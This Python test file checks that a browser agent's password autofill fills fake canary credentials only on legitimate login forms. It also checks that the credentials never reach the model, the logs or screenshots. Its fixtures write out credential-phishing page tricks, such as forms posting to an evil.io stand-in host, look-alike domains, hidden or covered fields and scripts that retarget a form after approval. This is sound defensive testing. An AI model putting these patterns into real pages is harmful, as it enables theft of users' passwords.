"""Stored logins on real pages: what is filled, and by which rule what a page tries is refused."""

from __future__ import annotations

from collections.abc import AsyncIterator
from dataclasses import dataclass, field, replace

import pytest
import pytest_asyncio

from server.agent import stored_logins
from server.agent.actions import AimedAction, LoginAction, aim
from server.agent.context import RunContext, UserUpdates
from server.browser.mcp import login_fields
from server.browser.mcp.session_browser import SessionBrowser
from server.browser.observation import Element, Observation
from server.browser.pool import BrowserPool
from tests.support.login_pages import MadeUpHosts, made_up_hosts
from tests.support.memory_vault import Stored, VaultInMemory
from tests.support.operator_world import Granted, World
from tests.support.scripted_model import ScriptedModel

pytestmark = pytest.mark.asyncio(loop_scope="module")

USER, PASSWORD, CODE = "ann.canary@example.org", "c4nary Pass#1", "731946"
SHOP = "https://shop.example"
USER_FIELD = "<label>User name <input name=user autocomplete=username></label>"
PASSWORD_FIELD = "<label>Password <input name=pass type=password autocomplete=current-password></label>"
BUTTON = "<button>Sign in</button>"
ALL_INPUTS = """() => {
  const all = (root) => [...root.querySelectorAll('*')].flatMap((el) => [
    ...(el.localName === 'input' || el.localName === 'textarea' ? [[el.name || el.id, el.value]] : []),
    ...(el.shadowRoot ? all(el.shadowRoot) : [])])
  return all(document)
}"""


def form(*parts: str, attributes: str = "method=post action=/session") -> str:
    return f"<form {attributes}>{''.join(parts)}</form>"


ORDINARY = form(USER_FIELD, PASSWORD_FIELD, BUTTON)


@dataclass(frozen=True)
class Case:
    name: str
    html: str
    filled: tuple[str, ...] = ()
    """Names of the fields that hold a part of the login afterwards."""
    refused: str = ""
    at: str = f"{SHOP}/login"
    frames: dict[str, str] = field(default_factory=dict)
    """Further pages by their addresses."""
    field: str = "Password"
    """Name of the field that the act is on."""
    between: str = ""
    """A script that the page runs between the question and the fill."""


BOTH = ("user", "pass")
FILLED = [
    Case("plain", ORDINARY, BOTH),
    Case("named by the user's field", ORDINARY, BOTH, field="User name"),
    Case("without hints", form("<p>E-mail<br><input name=user id=email aria-label=E-mail>", "<p>Password<br><input name=pass type=password aria-label=Password>", BUTTON), BOTH),
    Case("German", form("<label>Benutzername <input name=user></label><label>Passwort <input type=password name=pass></label><button>Anmelden</button>"), BOTH, field="Passwort"),
    Case("Russian", form("<label>Логин <input name=user></label><label>Пароль <input type=password name=pass></label><button>Войти</button>"), BOTH, field="Пароль"),
    Case("without a form", f"<div><div>{USER_FIELD}</div><div>{PASSWORD_FIELD}</div><button type=button>Sign in</button></div>", BOTH),
    Case("first of two steps", form("<label>E-mail or phone <input name=user type=email></label>", "<button>Next</button>"), ("user",), field="E-mail or phone"),
    Case("second of two steps", form(f"<p>{USER[0]}...</p>", "<input type=hidden name=who value=x>", PASSWORD_FIELD, BUTTON), ("pass",)),
    Case("second step with a hidden user name", form("<input name=user autocomplete=username style='display:none'>", PASSWORD_FIELD, BUTTON), ("pass",)),
    Case("a code", form("<label>Verification code <input name=otp inputmode=numeric autocomplete=one-time-code></label>", BUTTON), ("otp",), field="Verification code"),
    Case("a code by its name only", form("<label>6-digit code <input name=code></label>", BUTTON), ("code",), field="6-digit code"),
    Case("open shadow root", "<log-in></log-in><script>customElements.define('log-in', class extends HTMLElement { connectedCallback() { this.attachShadow({mode:'open'}).innerHTML = `" + ORDINARY + "` } })</script>", BOTH),
    Case("closed shadow root", "<log-in></log-in><script>customElements.define('log-in', class extends HTMLElement { connectedCallback() { this.attachShadow({mode:'closed'}).innerHTML = `" + ORDINARY + "` } })</script>", BOTH),
    Case("each field in a shadow root of its own", form("<x-f kind=user></x-f><x-f kind=pass></x-f>", BUTTON) + "<script>customElements.define('x-f', class extends HTMLElement { connectedCallback() { const kind = this.getAttribute('kind'); this.attachShadow({mode:'open'}).innerHTML = kind === 'user' ? '<label>User name <input name=user autocomplete=username></label>' : '<label>Password <input name=pass type=password></label>' } })</script>", BOTH),
    Case("frame of the same origin", "<iframe src=/inner width=600 height=300></iframe>", BOTH, frames={f"{SHOP}/inner": ORDINARY}),
    Case("frame of another host of the site", "<iframe src=https://accounts.shop.example/in width=600 height=300></iframe>", BOTH, frames={"https://accounts.shop.example/in": ORDINARY}),
    Case("another host of the site", ORDINARY, BOTH, at="https://login.shop.example/"),
    Case("sent to another host of the site", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="method=post action=https://auth.shop.example/in"), BOTH),
    Case("sent by a script", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="action=javascript:void(0)"), BOTH),
    Case("names that hide properties", form(USER_FIELD, PASSWORD_FIELD, "<input type=hidden name=action value=x><input type=hidden name=elements>", BUTTON), BOTH),
    Case("a name that hides a method of the document", ORDINARY + "<img name=querySelectorAll><img name=elementFromPoint><img name=defaultView>", BOTH),
    Case("below the window", "<div style='height:3000px'></div>" + ORDINARY, BOTH),
    Case("in a box that scrolls", f"<div style='height:120px;overflow:auto'><div style='height:600px'></div>{ORDINARY}</div>", BOTH),
    Case("a framework that writes its state back", ORDINARY + """<script>
      const state = {}, fields = [...document.querySelectorAll('input')]
      const render = () => fields.forEach((el) => { el.value = state[el.name] || '' })
      fields.forEach((el) => el.addEventListener('input', () => { state[el.name] = el.value; render() }))
      </script>""", BOTH),
    Case("fields with setters of their own", ORDINARY + """<script>
      for (const el of document.querySelectorAll('input')) Object.defineProperty(el, 'value', {
        get() { return Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get.call(el) },
        set(text) { document.querySelector('#sink').value += text } })
      </script><input id=sink hidden>""", BOTH),
    Case("a check box next to it", form(USER_FIELD, PASSWORD_FIELD, "<label><input type=checkbox name=keep> Stay signed in</label>", BUTTON), BOTH),
    Case("two forms on one page", form("<label>Search <input name=q></label>", attributes="action=/search") + ORDINARY, BOTH),
    Case("a search field in the same form is left alone", form("<label>Promotion <input name=promo></label>", USER_FIELD, PASSWORD_FIELD, BUTTON), BOTH),
    Case("loopback without encryption", ORDINARY, BOTH, at="http://shop.localhost/login"),
]  # fmt: skip
REFUSED = [
    # look-alike hosts
    *(Case(f"look-alike {host}", ORDINARY, refused="none_fits", at=f"https://{host}/login") for host in (
        "shop-example.com", "shop.example.evil.io", "xn--shp-ted.example", "evilshop.example", "shop.example.co", "shop.example:8443")),
    # frames of other sites, and of no site
    Case("our form in a frame of another site", "<iframe src=https://evil.io/in width=600 height=300></iframe>", refused="none_fits", frames={"https://evil.io/in": ORDINARY}),
    Case("our site framed by another", "<iframe src=https://shop.example/in width=600 height=300></iframe>", refused="foreign_frame", at="https://evil.io/", frames={f"{SHOP}/in": ORDINARY}),
    Case("our site framed by another that is framed by ours", "<iframe src=https://evil.io/mid width=700 height=400></iframe>", refused="foreign_frame", frames={"https://evil.io/mid": "<iframe src=https://shop.example/in width=600 height=300></iframe>", f"{SHOP}/in": ORDINARY}),
    Case("sandboxed frame", "<iframe sandbox='allow-forms allow-scripts' src=/in width=600 height=300></iframe>", refused="opaque", frames={f"{SHOP}/in": ORDINARY}),
    Case("sandboxed frame that keeps its origin", "<iframe sandbox='allow-forms allow-scripts allow-same-origin' src=/in width=600 height=300></iframe>", refused="opaque", frames={f"{SHOP}/in": ORDINARY}),
    Case("srcdoc", f"<iframe width=600 height=300 srcdoc='{ORDINARY}'></iframe>", refused="opaque"),
    Case("data", "<iframe width=600 height=300 src='data:text/html,<label>Password <input type=password></label><button>Sign in</button>'></iframe>", refused="opaque"),
    Case("blob", "<iframe width=600 height=300 id=f></iframe><script>f.src = URL.createObjectURL(new Blob([`" + ORDINARY + "`], {type:'text/html'}))</script>", refused="opaque"),
    # sent elsewhere
    Case("sent elsewhere", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="method=post action=https://evil.io/take"), refused="foreign_form"),
    Case("a button sends elsewhere", form(USER_FIELD, PASSWORD_FIELD, "<button formaction=https://evil.io/take>Sign in</button>"), refused="foreign_form"),
    Case("a button outside of the form sends elsewhere", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="id=f method=post action=/in") + "<button form=f formaction=https://evil.io/take>More</button>", refused="foreign_form"),
    Case("sent by mail", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="action=mailto:a@evil.io"), refused="foreign_form"),
    Case("a base address sends elsewhere", "<base href=https://evil.io/>" + form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="method=post action=session"), refused="foreign_form"),
    Case("another address after the yes", ORDINARY, refused="changed", between="document.forms[0].action = 'https://evil.io/take'"),
    Case("another address of a button after the yes", ORDINARY, refused="changed", between="document.querySelector('button').setAttribute('formaction', 'https://evil.io/take')"),
    # without encryption
    Case("http", ORDINARY, refused="http", at="http://shop.example/login"),
    Case("sent without encryption", form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes="method=post action=http://shop.example/in"), refused="http"),
    # fields that cannot be seen
    *(Case(f"password field {style}", form(USER_FIELD, f"<input name=pass type=password aria-label=Password style='{style}'>", BUTTON), refused="hidden", field="User name") for style in (
        "opacity:0.05", "width:3px;height:3px;padding:0;border:0", "position:absolute;left:-5000px", "clip-path:inset(50%)", "transform:scale(0.01)")),
    Case("transparent around it", f"<div style='opacity:0.3'><div style='opacity:0.3'>{ORDINARY}</div></div>", refused="hidden"),
    Case("covered", f"<div style='position:relative'>{ORDINARY}<div style='position:absolute;inset:0;background:white'>Win a prize</div></div>", refused="hidden"),
    Case("covered from outside of its shadow root", "<div style='position:relative'><log-in></log-in><div style='position:absolute;inset:0;background:white'>x</div></div><script>document.querySelector('log-in').attachShadow({mode:'open'}).innerHTML = `" + ORDINARY + "`</script>", refused="hidden"),
    Case("its frame is covered", "<div style='position:relative;width:600px;height:300px'><iframe src=/in width=600 height=300></iframe><div style='position:absolute;inset:0;background:white'>x</div></div>", refused="hidden", frames={f"{SHOP}/in": ORDINARY}),
    Case("user name field that cannot be seen", form("<input name=user autocomplete=username aria-label=User style='opacity:0.02'>", PASSWORD_FIELD, BUTTON), refused="hidden"),
    Case("hidden after the yes", ORDINARY, refused="hidden", between="document.querySelector('[type=password]').style.opacity = 0.01"),
    # which password field
    Case("new password", form(USER_FIELD, "<label>Password <input name=pass type=password autocomplete=new-password></label>", BUTTON), refused="new_password"),
    Case("change of a password", form(PASSWORD_FIELD, "<label>New <input type=password name=new></label><label>Again <input type=password name=new2></label>", BUTTON), refused="several_passwords"),
    Case("shown as text", form(USER_FIELD, "<label>Password <input name=pass type=text autocomplete=current-password></label>", BUTTON), refused="plain_field"),
    Case("turned to text after the yes", ORDINARY, refused="plain_field", between="document.querySelector('[type=password]').type = 'text'"),
    Case("turned to text when the user name is written", ORDINARY + "<script>document.querySelector('[name=user]').addEventListener('input', () => { document.querySelector('[name=pass]').type = 'text' })</script>", ("user",), refused="plain_field"),
    Case("replaced when the user name is written", ORDINARY + "<script>document.querySelector('[name=user]').addEventListener('input', () => { const old = document.querySelector('[name=pass]'), made = old.cloneNode(); old.replaceWith(made) })</script>", ("user",), refused="changed"),
    Case("locked", form(USER_FIELD, "<label>Password <input name=pass type=password readonly></label>", BUTTON), refused="locked"),
    # no login
    Case("a comment", form("<label>Comment <input name=comment></label>", BUTTON), refused="no_login", field="Comment"),
    Case("a text area", form("<label>Your password is needed again <textarea name=t></textarea></label>", BUTTON), refused="no_login", field="Your password is needed again"),
    # changed between the question and the fill
    Case("another document", ORDINARY, refused="changed", between="location.reload()"),
    Case("another address by script", ORDINARY, refused="changed", between="history.pushState(0, '', '/other')"),
    Case("another node", ORDINARY, refused="changed", between="const old = document.querySelector('[type=password]'); old.replaceWith(old.cloneNode())"),
    Case("a second password field", ORDINARY, refused="several_passwords", between="const old = document.querySelector('[type=password]'); old.after(old.cloneNode())"),
    Case("the form around it", ORDINARY, refused="changed", between="const f = document.forms[0], made = document.createElement('form'); made.action = f.action; made.method = 'post'; f.before(made); made.append(...f.childNodes); f.remove()"),
    Case("not kept", ORDINARY + "<script>document.querySelector('[name=pass]').addEventListener('input', (e) => { e.target.value = '' })</script>", ("user",), refused="not_kept"),
]  # fmt: skip


class Silent:
    async def take_updates(self) -> UserUpdates:
        return UserUpdates()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser(pool: BrowserPool) -> SessionBrowser:
    return await pool.get("logins")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def hosts(browser: SessionBrowser) -> AsyncIterator[MadeUpHosts]:
    async with made_up_hosts(browser) as hosts:
        yield hosts


def vault() -> VaultInMemory:
    mine = Stored("l1", ("shop.example", "shop.localhost"), USER, PASSWORD, codes=[CODE])
    return VaultInMemory([mine])


def context_of(browser: SessionBrowser, vault: VaultInMemory) -> RunContext:
    async def running() -> SessionBrowser:
        return browser

    async def keep(_: object) -> None:
        return None

    return RunContext("r", "s", running, keep, Silent(), Granted(), 10, vault=vault)


def find(seen: Observation, name: str) -> Element:
    return next(one for one in seen.interactive if one.name.startswith(name) or one.placeholder == name)


async def filled_fields(browser: SessionBrowser) -> dict[str, str]:
    here = browser._calls.here
    inside = await here.run_inside(lambda _: ALL_INPUTS)
    found = [await here.run(ALL_INPUTS), *(value for value, _ in inside)]
    return {
        str(name): str(value) for some in found for name, value in (some if isinstance(some, list) else [])
        if any(secret in value for secret in (USER, PASSWORD, CODE))
    }  # fmt: skip


async def show(case: Case, browser: SessionBrowser, hosts: MadeUpHosts) -> AimedAction:
    hosts.pages.clear()
    hosts.pages[case.at] = f"<!doctype html><title>x</title><body>{case.html}"
    hosts.pages |= {at: f"<!doctype html><body>{html}" for at, html in case.frames.items()}
    await browser.navigate(case.at)
    seen = await browser.observe()
    element = next((one for one in seen.interactive if one.name.startswith(case.field)), None)
    assert element is not None, seen.text()
    return aim(LoginAction(id="a", eid=element.eid), seen)


@pytest.mark.parametrize("case", [*FILLED, *REFUSED], ids=lambda case: case.name)
async def test_a_login_is_filled_where_all_rules_hold_and_nowhere_else(
    case: Case, browser: SessionBrowser, hosts: MadeUpHosts
) -> None:
    store = vault()
    context = context_of(browser, store)
    aimed = await show(case, browser, hosts)
    planned = await stored_logins.plan_login(context, aimed)
    rule = planned.rule
    if not rule:
        assert isinstance(aimed.action, LoginAction)
        bound = replace(aimed, action=stored_logins.with_form(aimed.action, planned))
        if case.between:
            await browser._calls.here.run(f"() => {{ {case.between} }}")
        outcome = await stored_logins.fill(context, browser, bound, is_approved=True)
        rule = "" if outcome.ok else store.log[-1].reason
    assert rule == case.refused
    assert sorted(await filled_fields(browser)) == sorted(case.filled)
    assert [one for one in hosts.requests if one[0] != "GET"] == []


WELCOME = f"<title>Hello {USER}</title><body><h1>Signed in as {USER}</h1><p>Last code: {CODE}</p><form><input value='{PASSWORD}' aria-label=Note></form><p>End</p>"


async def test_neither_model_nor_state_nor_picture_gets_a_value_that_was_filled(
    browser: SessionBrowser, hosts: MadeUpHosts, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    start, code_page = f"{SHOP}/start", f"{SHOP}/code"
    hosts.pages.clear()
    hosts.pages |= {
        start: f"<!doctype html><title>Shop</title><body>{form(USER_FIELD, PASSWORD_FIELD, BUTTON, attributes=f'method=post action={code_page}')}",
        code_page: "<!doctype html><title>Code</title><body>" + form("<label>Verification code <input name=otp autocomplete=one-time-code></label>", BUTTON, attributes=f"method=post action={SHOP}/welcome"),
        f"{SHOP}/welcome": "<!doctype html>" + WELCOME,
    }  # fmt: skip
    turns = [
        {"action": "login", "eid": "e1", "login": "L1"},
        {"action": "click", "eid": "e3"},
        {"action": "login", "eid": "e1", "login": "L1"},
        {"action": "click", "eid": "e2"},
        {"action": "read_page"},
    ]
    model = ScriptedModel(
        turns=turns, again={"action": "stop", "final_response": "In."}, prompts=[], asked=[]
    )
    world = World(browser, model, vault=vault())  # type: ignore[arg-type]
    await browser.navigate(start)
    assert await world.say("log in") is None
    assert await world.answer(confirmed=True) == "In."

    sent = {at: body for method, at, body in hosts.requests if method == "POST"}
    assert sent[code_page].startswith("user=ann.canary%40example.org&pass=c4nary")
    assert sent[f"{SHOP}/welcome"] == f"otp={CODE}"
    seen = await browser.observe()
    assert "Signed in as" in seen.text()
    kept = [str(one) for one in (model.prompts, model.asked, world.told, world.values, seen, caplog.text)]
    for secret in (USER, PASSWORD, CODE, PASSWORD.replace(" ", "+"), USER.replace("@", "%40")):
        assert not any(secret in one for one in kept), secret
    boxes = await login_fields.shown_boxes(browser._calls.here)
    assert boxes is not None
    assert len(boxes) == 3
    assert await browser.screenshot() is not None


async def test_a_value_that_several_nodes_spell_leaves_no_picture(
    browser: SessionBrowser, hosts: MadeUpHosts
) -> None:
    browser.hide_logins([USER, PASSWORD])
    hosts.pages[f"{SHOP}/spelled"] = f"<!doctype html><body><p>{PASSWORD[:4]}<b>{PASSWORD[4:]}</b></p>"
    await browser.navigate(f"{SHOP}/spelled")
    assert await browser.screenshot() is None
